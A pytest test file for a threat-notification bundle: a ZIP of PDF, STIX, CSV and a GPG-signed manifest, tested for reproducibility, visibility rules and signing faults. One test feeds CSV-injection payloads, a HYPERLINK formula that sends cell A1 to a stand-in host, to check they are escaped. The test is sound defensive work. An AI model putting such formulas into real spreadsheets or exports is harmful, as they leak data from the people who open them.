"""The bundle of a package: what is in it, that it is the same bytes every time, and whose signature stands on it."""

import csv
import hashlib
import io
import json
import stat
import zipfile
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from pysequoia import Sig, Tsk, verify

from leerp.errors import ServiceMissingError
from leerp.marking import Handling, HandlingCode, Marking, Reader
from leerp.notices import Form, Mode, Notice, NoticeKind, Relation, Variant, VariantFile
from leerp.observables import Observable, ObservableKind
from notifications.composing import compose
from notifications.context import PackageWord, PooledItem
from notifications.forms.bundle import unpacked
from notifications.rendering import render
from notifications.sealing import Sealing
from tests.notifications import cast, machine_forms
from tests.notifications.mail_keys import Gpg, gpg, needs_gpg
from tests.secret_files import secret_file

NAMES = ["README.txt", "message.pdf", "notice.stix.json", "observables.csv", "manifest.json"]
H3 = Marking(handling=(Handling(code=HandlingCode.H3, provider="poc-no", text="Call first."),))


def package(*items: PooledItem, **changes: object) -> Notice:
    """The package of Germany with these items."""
    word = PackageWord(country="DE", items=items or (cast.pooled(marking=Marking()),))
    return cast.notice(NoticeKind.PACKAGE, compose(NoticeKind.PACKAGE, cast.context(package=word)), **changes)


def bundle(of: Notice, reader: Reader = machine_forms.EVERYBODY, **how: bool) -> VariantFile:
    """The bundle as a reader gets it."""
    (file,) = machine_forms.variant(of, Form.BUNDLE, reader=reader, **how).files
    return file


def files(of: Notice, reader: Reader = machine_forms.EVERYBODY) -> dict[str, bytes]:
    """What is in it."""
    return unpacked(bundle(of, reader).content)


def rows(of: Notice) -> list[dict[str, str]]:
    """Its table as a program reads it."""
    return list(csv.DictReader(io.StringIO(files(of)["observables.csv"].decode(), newline="")))


def test_what_is_in_it() -> None:
    """PDF, STIX, CSV, a text on how to check it, and a manifest with the SHA-256 of each, which all hold."""
    made = package()
    found = files(made)
    assert list(found) == NAMES
    manifest = json.loads(found["manifest.json"])
    assert {one["name"]: (one["size_bytes"], one["sha256"]) for one in manifest["files"]} == {
        name: (len(content), hashlib.sha256(content).hexdigest())
        for name, content in found.items()
        if name != "manifest.json"
    }
    assert (manifest["notice"], manifest["incident"], manifest["mode"]) == (made.id, made.incident, "actual")
    assert found["message.pdf"].startswith(b"%PDF-")
    assert "pooled.example" in found["notice.stix.json"].decode()
    assert "gpg --verify manifest.json.asc manifest.json" in found["README.txt"].decode()


def test_in_an_exercise_every_row_says_so() -> None:
    """The table may be taken out of the bundle and passed on alone; in earnest it has no such column."""
    played, real = package(mode=Mode.EXERCISE), package()
    assert {row["exercise"] for row in rows(played)} == {"EXERCISE EXERCISE EXERCISE"}
    assert all("exercise" not in row for row in rows(real))


def test_each_file_in_it_is_the_form_of_the_same_name() -> None:
    """The PDF and the STIX in it are byte for byte those that go beside it, and nobody's name stands in it."""
    made = machine_forms.variant(package(), Form.PDF, Form.STIX, Form.BUNDLE, reader=cast.LIAISON)
    beside = {file.name: file.content for file in made.files}
    inside = unpacked(beside.pop("package.zip"))
    assert beside == {name: inside[name] for name in ("message.pdf", "notice.stix.json")}
    assert not any(cast.LIAISON.id.encode() in content for content in inside.values())


def test_it_is_the_same_bytes_every_time_and_on_every_day() -> None:
    """The files in it have one order, one time and plain rights; no clock and no name of a reader goes in."""
    assert bundle(package()).content == bundle(package()).content
    with zipfile.ZipFile(io.BytesIO(bundle(package()).content)) as opened:
        told = {(one.date_time, one.create_system, stat.filemode(one.external_attr >> 16)) for one in opened.infolist()}
        assert told == {((1980, 1, 1, 0, 0, 0), 3, "-rw-r--r--")}
        assert opened.comment == b""
    assert (
        bundle(package()).content == bundle(package(), Reader(**{**dict(machine_forms.EVERYBODY), "id": "x"})).content
    )


def test_the_table_says_what_each_observable_is() -> None:
    """Kind, value, when it was first seen, its provider's grade, its marking and whose codes stand on it; each once."""
    item = cast.pooled(marking=H3)
    assert rows(package(item, item, cast.pooled(marking=Marking(), first_seen=()))) == [
        {
            "kind": "domain",
            "value": "pooled.example",
            "first_seen": "2017-05-12T07:14:00.000000+00:00",
            "source_grade": "B2 (4x4)",
            "marking": H3.banner,
            "handling": "H3 set by poc-no: Call first.",
        },
        {
            "kind": "domain",
            "value": "pooled.example",
            "first_seen": "",
            "source_grade": "B2 (4x4)",
            "marking": Marking().banner,
            "handling": "",
        },
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\uff1d", "\uff20"])
def test_no_cell_is_a_formula(start: str) -> None:
    """A value that a spreadsheet would compute has an apostrophe before it, and any other value stands as it is."""
    evil = f'{start}HYPERLINK("http://x/?"&A1,"a,b")\n2nd'
    shown = (Observable(kind=ObservableKind.MUTEX, value=evil), Observable(kind=ObservableKind.MUTEX, value="a=1"))
    known = package(cast.pooled(marking=Marking(), observables=shown, first_seen=()))
    assert [row["value"] for row in rows(known)] == [f"'{evil}", "a=1"]


def test_only_a_package_that_stands_has_one() -> None:
    """No other kind of notice, and no package that is taken back."""
    for kind in NoticeKind:
        made = render(
            cast.notice(kind),
            cast.LIAISON,
            channel="email",
            maximum=machine_forms.TIGHT.level,
            at=cast.AT,
            forms=(Form.TEXT, Form.BUNDLE),
        )
        names = [file.name for file in made.files] if isinstance(made, Variant) else []
        assert ("package.zip" in names) is (kind is NoticeKind.PACKAGE)
    assert machine_forms.variant(package(**machine_forms.RECALLED), Form.BUNDLE).files == ()
    replaced = {**machine_forms.RECALLED, "relation": Relation.REPLACES}
    assert len(machine_forms.variant(package(**replaced), Form.BUNDLE).files) == 1


def test_who_may_see_no_item_gets_no_package() -> None:
    """Not an empty frame either: that would say that there is something."""
    hidden = package(cast.pooled(), cast.pooled(title=None))
    made = render(hidden, cast.PARTNER, channel="email", maximum=cast.RESTRICTED.level, at=cast.AT)
    assert not isinstance(made, Variant)


@pytest.fixture(scope="module")
def key() -> Tsk:
    """The centre's key."""
    return Tsk.generate("European Cybercrime Centre <ecc@ec3.example>")


@pytest.fixture
def gnupg(key: Tsk) -> Iterator[Gpg]:
    """A reader's GnuPG that has the centre's certificate."""
    with gpg() as made:
        made.take(key.extract_certificate())
        yield made


@needs_gpg
def test_gpg_verifies_the_signature_over_exactly_the_manifest(key: Tsk, gnupg: Gpg, tmp_path: Path) -> None:
    """As the README says to; with one changed byte it does not. Nothing else of the bundle is changed by signing it."""
    unsigned = bundle(package())
    signed = Sealing(key_file=secret_file(tmp_path / "key.asc", str(key))).sealed(unsigned)
    found = unpacked(signed.content)
    assert list(found) == [*NAMES, "manifest.json.asc"]
    assert {name: content for name, content in found.items() if name in NAMES} == unpacked(unsigned.content)
    for name, content in found.items():
        (tmp_path / name).write_bytes(content)
    checked = gnupg.verified(tmp_path / "manifest.json.asc", found["manifest.json"])
    assert checked == key.extract_certificate().fingerprint.lower()
    assert gnupg.verified(tmp_path / "manifest.json.asc", found["manifest.json"].replace(b"DE", b"FR")) is None


def test_two_signatures_differ_and_nothing_else_does(key: Tsk, tmp_path: Path) -> None:
    """A signature is drawn anew, which is why it is made once for each variant; what it covers is always the same."""
    sealing = Sealing(key_file=secret_file(tmp_path / "key.asc", str(key)))
    first, second = (unpacked(sealing.sealed(bundle(package())).content) for _ in range(2))
    assert [name for name in first if first[name] != second[name]] == ["manifest.json.asc"]
    certificate = key.extract_certificate()
    for found in (first, second):
        signature = Sig.from_bytes(found["manifest.json.asc"])
        verified = verify(bytes=found["manifest.json"], store=lambda _: [certificate], signature=signature)
        assert len(verified.valid_sigs) == 1


def test_without_a_key_it_is_unsigned_unless_it_must_not_be(tmp_path: Path) -> None:
    """No key: the same bundle. Required, or a key that is named and cannot sign: nothing, and a reason."""
    assert Sealing().signs() is False
    assert Sealing().sealed(bundle(package())) == bundle(package())
    with pytest.raises(ServiceMissingError, match="must be signed"):
        Sealing(required=True).sealed(bundle(package()))
    with pytest.raises(ServiceMissingError, match="cannot be read"):
        Sealing(key_file=tmp_path / "away.asc").signs()


def test_a_key_that_cannot_sign_is_a_fault(key: Tsk, tmp_path: Path) -> None:
    """Open to others, revoked, of another password, or no key at all: said, and nothing goes out without it."""
    open_to_all = secret_file(tmp_path / "open.asc", str(key), mode=0o644)
    public = secret_file(tmp_path / "public.asc", str(key.extract_certificate()))
    noise = secret_file(tmp_path / "noise.asc", "not a key")
    for file, fault in ((open_to_all, "open to others"), (public, "can sign today"), (noise, "can sign today")):
        with pytest.raises(ServiceMissingError, match=fault):
            Sealing(key_file=file).sealed(bundle(package()))


@needs_gpg
def test_a_key_with_a_password(tmp_path: Path) -> None:
    """The password stands in a file of its own, closed to others; a wrong one is a fault."""
    with gpg() as made:
        made.run("--passphrase", "correct horse", "--quick-generate-key", "Centre <ecc@ec3.example>", "ed25519", "sign")
        unlocked = ("--passphrase", "correct horse", "--pinentry-mode", "loopback")
        armoured = made.run(*unlocked, "--armor", "--export-secret-keys")
    file = secret_file(tmp_path / "key.asc", armoured)
    right = secret_file(tmp_path / "right", "correct horse\n")
    wrong = secret_file(tmp_path / "wrong", "battery staple\n")
    sealed = Sealing(key_file=file, password_file=right).sealed(bundle(package()))
    assert b"BEGIN PGP SIGNATURE" in unpacked(sealed.content)["manifest.json.asc"]
    with pytest.raises(ServiceMissingError, match="can sign today"):
        Sealing(key_file=file, password_file=wrong).signs()


def test_when_it_was_issued_stands_in_the_manifest_alone() -> None:
    """The time of the notice, so that the same package built anew is another one."""
    later = files(package(issued_at=cast.AT + timedelta(days=1)))
    assert json.loads(later["manifest.json"])["issued_at"] == "2017-05-13T09:14:00.000000+00:00"
